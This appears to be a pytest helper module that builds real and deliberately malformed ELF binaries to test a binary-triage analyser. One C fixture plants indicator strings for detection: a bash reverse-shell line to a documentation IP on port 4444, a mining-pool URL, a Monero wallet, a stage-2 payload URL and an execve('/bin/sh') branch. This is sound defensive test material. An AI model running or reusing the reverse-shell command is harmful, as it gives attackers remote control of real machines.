"""Real binaries for the binary-triage tests, built with gcc under tmp_path (never blobs in
the repo), and malformed ones derived from them. Helpers only: no tests in this module."""

from __future__ import annotations

import random
import shutil
import struct
import subprocess
import threading
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

import pytest

T = TypeVar("T")

POOL_URL = "stratum+tcp://pool.supportxmr.com:3333"
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
MONERO = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
WIDE_URL = "https://payload.example.xyz/stage2"

PLANTED_C = (
    r"""
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>
#include <uchar.h>

__attribute__((used)) static const char pool[] = "@POOL@";
__attribute__((used)) static const char shell[] = "@SHELL@";
__attribute__((used)) static const char wallet[] = "@WALLET@";
__attribute__((used)) static const char16_t wide[] = u"@WIDE@";
__attribute__((used)) static const char cron[] = "/etc/cron.d/updater";

int main(int argc, char **argv) {
    if (argc > 5) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        connect(s, 0, 0);
        execve("/bin/sh", argv, 0);
    }
    puts(argc > 9 ? pool : "hello");
    return 0;
}
""".replace("@POOL@", POOL_URL)
    .replace("@SHELL@", REVERSE_SHELL)
    .replace("@WALLET@", MONERO)
    .replace("@WIDE@", WIDE_URL)
)

BENIGN_C = r"""
#include <stdio.h>
int add(int a, int b) { return a + b; }
int main(void) { printf("%d\n", add(2, 3)); return 0; }
"""

UPX_SIGNS_C = r"""
#include <stdio.h>
__attribute__((used)) static const char magic[] = "UPX!\x0d\x0c\x08\x0e";
__attribute__((used)) static const char banner[] =
    "$Info: This file is packed with the UPX executable packer http://upx.sf.net $";
int main(void) { puts("hi"); return 0; }
"""


def gcc(tmp: Path, name: str, source: str, *flags: str) -> Path:
    """Compile ``source`` with the machine's gcc; skip the test when gcc is missing."""
    if shutil.which("gcc") is None:
        pytest.skip("gcc is not on PATH: the binary fixtures are built with it")
    src = tmp / f"{name}.c"
    src.write_text(source)
    out = tmp / name
    subprocess.run(["gcc", "-O0", "-o", str(out), str(src), *flags], check=True, capture_output=True)
    return out


def finishes(fn: Callable[[], T], limit: float = 120.0) -> T:
    """Run ``fn`` in a thread; fail (not hang) when it has not returned after ``limit``.

    A hang detector, not a timing assertion: the limit is far above any normal run."""
    box: dict[str, object] = {}

    def target() -> None:
        try:
            box["value"] = fn()
        except BaseException as exc:
            box["error"] = exc

    worker = threading.Thread(target=target, daemon=True)
    worker.start()
    worker.join(limit)
    if worker.is_alive():
        pytest.fail(f"analysis still running after {limit}s: a hang")
    if "error" in box:
        raise box["error"]  # type: ignore[misc]
    return box["value"]  # type: ignore[return-value]


# --- malformed ELF64 images, derived from a real one ----------------------------------------

E_PHOFF, E_SHOFF, E_PHNUM, E_SHNUM, E_SHSTRNDX = 0x20, 0x28, 0x38, 0x3C, 0x3E


def patched(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    out = bytearray(data)
    struct.pack_into(fmt, out, offset, value)
    return bytes(out)


def section_headers(data: bytes) -> list[tuple[int, int, int]]:
    """(header offset, sh_type, sh_size) of each section of a well-formed ELF64 LSB."""
    shoff = struct.unpack_from("<Q", data, E_SHOFF)[0]
    shnum = struct.unpack_from("<H", data, E_SHNUM)[0]
    out = []
    for i in range(shnum):
        at = shoff + i * 64
        _name, sh_type = struct.unpack_from("<II", data, at)
        size = struct.unpack_from("<Q", data, at + 32)[0]
        out.append((at, sh_type, size))
    return out


def no_dt_null(data: bytes) -> bytes:
    """Every DT_NULL in the dynamic segment turned into DT_DEBUG: the table has no end."""
    out = bytearray(data)
    phoff = struct.unpack_from("<Q", data, E_PHOFF)[0]
    phnum = struct.unpack_from("<H", data, E_PHNUM)[0]
    for i in range(phnum):
        at = phoff + i * 56
        p_type = struct.unpack_from("<I", data, at)[0]
        if p_type == 2:  # PT_DYNAMIC
            offset, filesz = (
                struct.unpack_from("<Q", data, at + 8)[0],
                struct.unpack_from("<Q", data, at + 32)[0],
            )
            for entry in range(offset, offset + filesz, 16):
                if struct.unpack_from("<q", out, entry)[0] == 0:
                    struct.pack_into("<q", out, entry, 21)
    return bytes(out)


def malformed(good: bytes) -> dict[str, bytes]:
    """Named malformed variants of a well-formed ELF64 LSB image."""
    symtab = next(at for at, kind, _size in section_headers(good) if kind == 2)  # SHT_SYMTAB
    rng = random.Random(8)
    return {
        "truncated-header": good[:40],
        "truncated": good[: len(good) // 3],
        "bogus-e_shoff": patched(good, E_SHOFF, "<Q", 0x7FFF_FFFF_FFFF_0000),
        "e_shnum-65535": patched(good, E_SHNUM, "<H", 0xFFFF),
        "extended-shnum-huge": patched(
            patched(good, E_SHNUM, "<H", 0), section_headers(good)[0][0] + 32, "<Q", 1 << 40
        ),
        "bogus-e_shstrndx": patched(good, E_SHSTRNDX, "<H", 0xFFF0),
        "e_phnum-65535": patched(good, E_PHNUM, "<H", 0xFFFF),
        "symtab-size-huge": patched(good, symtab + 32, "<Q", 1 << 40),
        "dynamic-without-dt_null": no_dt_null(good),
        "elf-magic-then-noise": b"\x7fELF\x02\x01\x01" + rng.randbytes(4096),
    }


def random_bytes(size: int = 100_000) -> bytes:
    return random.Random(7).randbytes(size)
